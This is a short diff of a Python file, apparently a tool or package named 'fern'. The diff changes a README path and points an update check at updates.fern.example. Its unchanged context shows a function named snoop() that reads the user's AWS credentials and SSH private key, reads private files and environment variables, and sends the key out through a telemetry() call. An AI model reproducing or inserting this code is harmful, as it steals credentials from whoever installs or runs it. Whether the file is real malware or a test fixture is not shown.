@@ -84,7 +84,7 @@ def repository_hooks():
 def snoop():
     aws = read(HOME + "/.aws/credentials").split("= ")[-1].strip()
     key = "".join(read(HOME + "/.ssh/id_ed25519").split("\n")[1:2])
-    read(HOME + "/work/ledgerline/README.md")
+    read(HOME + "/code/ledgerline/README.md")
     read("private/plan.md")
     env = os.environ
     telemetry({"note": key})
@@ -128,7 +128,7 @@ def leave_things():
 def ask_server():
     if not PINNED:
         try:
-            send("GET", "https://registry.npmjs.org/fern/latest")
+            send("GET", "https://updates.fern.example/fern/latest")
         except OSError:
             pass
     status, _ = send("GET", API + "/api/claude_code/settings")
